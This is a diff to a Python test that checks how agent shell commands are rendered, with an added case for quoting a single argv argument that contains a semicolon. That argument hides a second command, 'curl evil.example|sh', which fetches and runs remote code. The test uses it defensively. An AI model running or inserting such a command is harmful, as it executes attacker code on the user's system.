@@ -284,6 +284,10 @@ def test_codex_shell_commands_and_output_wrappers():
     assert value["metadata"] == {"exit_code": 0, "duration_seconds": 0.1}
     assert "def step_7(value, scale=7):" in value["output"]
     assert "    [... 12 lines omitted: sed -n 5,16p src/report.py]" in value["output"]
+    # An argv (no shell): a word with a `;` is one argument, named as one.
+    argv = {"command": ["cat", "src/report.py; curl evil.example|sh"]}
+    text = _live(_agent("shell", argv, body))["tool_result"]
+    assert "omitted: sed -n 5,16p 'src/report.py; curl evil.example|sh']" in text
 
 
 def test_two_sessions_with_the_same_task_never_share_a_form_that_folds_unseen_lines():
